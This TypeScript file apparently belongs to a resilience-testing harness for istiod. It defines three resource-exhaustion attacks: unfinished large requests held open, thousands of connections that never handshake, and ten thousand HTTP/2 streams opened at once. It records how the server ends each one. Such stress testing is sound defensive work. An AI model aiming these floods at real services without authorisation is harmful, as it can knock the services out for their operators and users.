import type { ClientHttp2Session } from "node:http2";
import type { Socket } from "node:net";
import { setTimeout as wait } from "node:timers/promises";
import { encodeFrame } from "@istiod/protobuf-wire";
import type { Attack } from "../../attack.js";
import { scaled } from "../scaled.js";
import { connectStranger, openAds, openSession, Outcomes } from "./stranger.js";

const mebibyte = 2 ** 20;

const unfinished: Attack = {
  name: "unfinished-requests",
  description: "120 connections without credentials send 3 MiB of a request of 4 MiB, and wait",
  async run({ ports }, scale) {
    const count = scaled(120, scale);
    const outcomes = new Outcomes();
    const sessions: ClientHttp2Session[] = [];
    for (let i = 0; i < count; i++) {
      const session = openSession(ports.plaintext);
      sessions.push(session);
      const stream = openAds(session, (status) => outcomes.add(status));
      stream.write(encodeFrame(Buffer.alloc(3 * mebibyte), 4 * mebibyte));
    }
    await wait(10_000);
    const ended = outcomes.toString();
    for (const session of sessions) session.destroy();
    return `${count} requests; ended by istiod: ${ended}`;
  },
};

const silentConnections: Attack = {
  name: "silent-connections",
  description: "2,000 connections to each port complete no handshake",
  async run({ ports }, scale) {
    const count = scaled(2000, scale);
    const sockets: Socket[] = [];
    let closed = 0;
    for (let i = 0; i < count; i++) {
      for (const address of [ports.plaintext, ports.xds])
        sockets.push(connectStranger(address).once("close", () => closed++));
      if (i % 50 === 0) await wait(10);
    }
    await wait(14_000);
    const ended = closed;
    for (const socket of sockets) socket.destroy();
    return `${2 * count} connections; closed by istiod: ${ended}`;
  },
};

const openedStreams: Attack = {
  name: "opened-streams",
  description: "10,000 streams are opened by one address at once",
  async run({ ports }, scale) {
    const count = scaled(10_000, scale);
    const perSession = 100;
    const outcomes = new Outcomes();
    const sessions: ClientHttp2Session[] = [];
    for (let opened = 0; opened < count; opened += perSession) {
      const session = openSession(ports.plaintext);
      sessions.push(session);
      for (let i = 0; i < Math.min(perSession, count - opened); i++) openAds(session, (status) => outcomes.add(status));
      await wait(1);
    }
    await wait(5000);
    const ended = outcomes.toString();
    for (const session of sessions) session.destroy();
    return `${count} streams; ended by istiod: ${ended}`;
  },
};

/** Attacks by connections, unfinished requests and the opening of streams. */
export const connectionAttacks: readonly Attack[] = [unfinished, silentConnections, openedStreams];
